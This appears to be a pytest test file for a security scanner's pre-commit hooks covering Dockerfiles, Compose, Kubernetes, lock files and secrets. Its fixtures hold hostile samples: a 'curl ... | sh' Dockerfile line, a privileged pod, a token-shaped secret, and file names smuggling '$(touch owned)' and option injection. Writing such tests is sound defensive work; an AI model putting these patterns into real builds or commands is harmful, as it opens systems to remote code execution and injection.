"""The hooks of pre-commit, run by it in a repository; without pre-commit, by their command lines."""

import re
import shutil
import subprocess

import pytest
import yaml
from tests.conftest import ROOT
from tests.support.command import ADVISORIES, Shell
from tests.unit.cli.test_ci import commit, git

from careen.cli.hooks import LOCKS

HOOKS = {hook["id"]: hook for hook in yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))}
KEY = "".join(("ghp", "_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"))
LOCK = '{"lockfileVersion": 3, "packages": {"": {}, "node_modules/lodash": {"version": "4.17.15"}}}'
SPEC = "{containers: [{name: a, image: a, securityContext: {privileged: true}}]}"
POD = f"apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec: {SPEC}\n"
BAD = {
    "careen-dockerfile": ("app/Dockerfile", "FROM debian:latest\nRUN curl http://x.example/a | sh\n"),
    "careen-compose": ("compose.yaml", "services: {a: {image: a, privileged: true}}\n"),
    "careen-kubernetes": ("pod.yaml", POD),
    "careen-locks": ("web/package-lock.json", LOCK),
    "careen-secrets": ("app.py", f'TOKEN = "{KEY}"\n'),
}
GOOD = {
    "careen-dockerfile": ("Dockerfile.txt", "not built\n"),
    "careen-compose": ("compose.yaml", "services: {}\n"),
    "careen-kubernetes": ("values.yaml", "a: 1\n"),
    "careen-locks": ("package-lock.json", '{"lockfileVersion": 3, "packages": {}}'),
    "careen-secrets": ("app.py", 'TOKEN = os.environ["TOKEN"]\n'),
}


@pytest.fixture
def shell(tmp_path):
    (tmp_path / "work").mkdir()
    return Shell(
        tmp_path / "work",
        CAREEN_OFFLINE="true",
        CAREEN_ADVISORIES=str(ADVISORIES),
        CAREEN_CACHE_DIR=str(tmp_path / "cache"),
        CAREEN_ACCEPT="no_advisories,no_exploit_data,no_lifecycle_data",
    )


def run(shell, hook, name, text):
    (shell.home / name).parent.mkdir(parents=True, exist_ok=True)
    (shell.home / name).write_text(text)
    found = HOOKS[hook]
    return shell.run(*found["entry"].split()[1:], *found["args"], name)


@pytest.mark.parametrize("hook", BAD)
def test_a_file_that_stops_the_commit(shell, hook):
    name, text = BAD[hook]
    done = run(shell, hook, name, text)
    assert done.returncode == 1, done.stderr
    assert name.rpartition("/")[2] in done.stdout
    assert KEY not in done.stdout


@pytest.mark.parametrize("hook", GOOD)
def test_a_file_that_passes(shell, hook):
    done = run(shell, hook, *GOOD[hook])
    assert done.returncode == 0, f"{done.stdout}{done.stderr}"


@pytest.mark.parametrize(
    "name", ["--plugins=x/package-lock.json", "docker:x/package-lock.json", "$(touch owned)/package-lock.json"]
)
def test_a_name_is_a_path(shell, name):
    done = run(shell, "careen-locks", name, LOCK)
    assert done.returncode == 1, done.stderr
    assert not list(shell.home.rglob("owned"))


def test_links_and_files_elsewhere_are_left_alone(shell):
    (shell.home / "app.py").symlink_to("/etc/hostname")
    assert shell.run("ci", "hook", "secrets", "--", "app.py", "/etc/hostname", "../x").returncode == 0


def test_an_unknown_kind(shell):
    assert shell.run("ci", "hook", "images", "x").returncode == 2
    assert shell.run("ci", "hook").returncode == 2


def test_every_lock_file_reaches_its_hook():
    pattern = re.compile(HOOKS["careen-locks"]["files"])
    assert [name for name in LOCKS if not pattern.search(f"a/{name}")] == []


@pytest.mark.skipif(not shutil.which("pre-commit"), reason="no pre-commit here: the hooks ran by their command lines alone")
def test_pre_commit_runs_them(shell, tmp_path):
    """In a repository of its own, from a repository that has the hooks; the installed Careen stands for the one of the hook."""
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    git(hooks, "init", "-q")
    entries = [{**hook, "language": "system", "entry": f"{' '.join(shell.command('ci', 'hook'))}"} for hook in HOOKS.values()]
    (hooks / ".pre-commit-hooks.yaml").write_text(yaml.safe_dump(entries))
    commit(hooks)
    git(shell.home, "init", "-q")
    for name, text in BAD.values():
        (shell.home / name).parent.mkdir(parents=True, exist_ok=True)
        (shell.home / name).write_text(text)
    wanted = {"repo": str(hooks), "rev": git(hooks, "rev-parse", "HEAD"), "hooks": [{"id": name} for name in HOOKS]}
    (shell.home / ".pre-commit-config.yaml").write_text(yaml.safe_dump({"repos": [wanted]}))
    git(shell.home, "add", "-A")
    command = [shutil.which("pre-commit"), "run", "--all-files", "--color=never"]
    environ = {**shell.environment, "PRE_COMMIT_HOME": str(tmp_path / "pre-commit")}
    done = subprocess.run(command, cwd=shell.home, env=environ, capture_output=True, text=True, timeout=300)
    assert done.returncode == 1, done.stdout + done.stderr
    found = dict(re.findall(r"(?m)^careen \((.*?)\)\.+(?:\(.*\))?(Passed|Failed|Skipped)$", done.stdout))
    assert found == dict.fromkeys(("Dockerfiles", "Compose", "Kubernetes", "lock files", "secrets"), "Failed")
    for name, text in GOOD.values():
        (shell.home / name).write_text(text)
    for name in {name for name, _ in BAD.values()} - {name for name, _ in GOOD.values()}:
        (shell.home / name).unlink()
    git(shell.home, "add", "-A")
    done = subprocess.run(command, cwd=shell.home, env=environ, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
